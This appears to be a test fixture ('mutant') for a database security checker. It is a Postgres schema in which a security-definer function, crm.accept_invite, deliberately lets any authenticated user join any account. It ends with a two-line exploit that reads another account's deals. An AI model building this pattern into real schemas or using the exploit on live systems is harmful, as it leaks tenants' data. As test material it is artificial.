-- mutant: A definer function lets anybody accept any invite
-- base: crm
-- family: function
-- leaks: values of another account
create table crm.invites (id uuid primary key default gen_random_uuid(), account_id uuid not null references crm.accounts (id), email text not null);
alter table crm.invites enable row level security;
grant select on crm.invites to authenticated;
create policy invites_own on crm.invites for select to authenticated using (crm_private.is_member(account_id));
insert into crm.invites (id, account_id, email) select id, id, 'somebody@example.com' from crm.accounts;
create function crm.accept_invite(invite uuid) returns void
language sql volatile security definer set search_path = ''
as $$ insert into crm.account_users (account_id, user_id) select i.account_id, auth.uid() from crm.invites i where i.id = invite on conflict do nothing $$;
revoke all on function crm.accept_invite(uuid) from public;
grant execute on function crm.accept_invite(uuid) to authenticated;

-- exploit as authenticated claims {"sub": "{{user_a}}", "role": "authenticated"}
select crm.accept_invite('{{b}}');
select * from crm.deals where account_id = '{{b}}';
